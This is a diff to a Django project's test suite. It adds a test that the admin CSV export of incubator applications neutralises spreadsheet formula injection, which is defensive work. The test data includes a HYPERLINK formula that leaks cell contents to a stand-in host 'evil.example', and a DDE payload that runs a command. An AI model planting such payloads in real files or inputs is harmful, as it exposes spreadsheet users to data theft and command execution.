@@ -7,10 +7,10 @@ import pytest
 from django.urls import reverse
 
 from applications.models import Application, Call
-from applications.services import application_start, application_submit
+from applications.services import DraftData, application_save_draft, application_start, application_submit
 from incubator.roles import PROGRAM_MANAGER
 from tests.applications.conftest import fill
-from tests.applications.factories import add_rules
+from tests.applications.factories import add_rules, question
 from tests.factories import UserFactory
 
 
@@ -84,6 +84,30 @@ def test_csv_export(manager_client, two_submitted):
     by_id = {row[0]: row for row in data}
     assert by_id[str(ineligible.pk)][3] == "ineligible"
     assert "deck.pdf" in by_id[str(eligible.pk)]
+
+
+def test_csv_export_neutralises_formulas_typed_by_applicants(manager_client, call, applicant):
+    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+    application = fill(application_start(call=call, applicant=applicant))
+    data = DraftData(
+        standard={"full_name": formula},
+        answers={str(question(call, 1).pk): "@SUM(1+1)*cmd|' /C calc'!A0"},
+        team=[{"name": "-2+3", "email": "x@example.org", "role": ""}],
+    )
+    application_save_draft(application=application, data=data, by=applicant)
+    application_submit(application=application, by=applicant)
+    response = manager_client.post(
+        reverse("admin:applications_application_changelist"),
+        {"action": "export_csv", "_selected_action": [application.pk]},
+    )
+    header, row = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    cells = dict(zip(header, row, strict=True))
+    assert cells["full name"] == "'" + formula
+    assert cells["Project name"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert cells["team"] == "'-2+3"
+    assert cells["phone"] == "'+212 600 000 000"
+    assert cells["id"] == str(application.pk) and cells["region"] == "North"
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
 
 
 def test_applications_cannot_be_added_or_deleted_in_the_admin(manager_client, two_submitted):
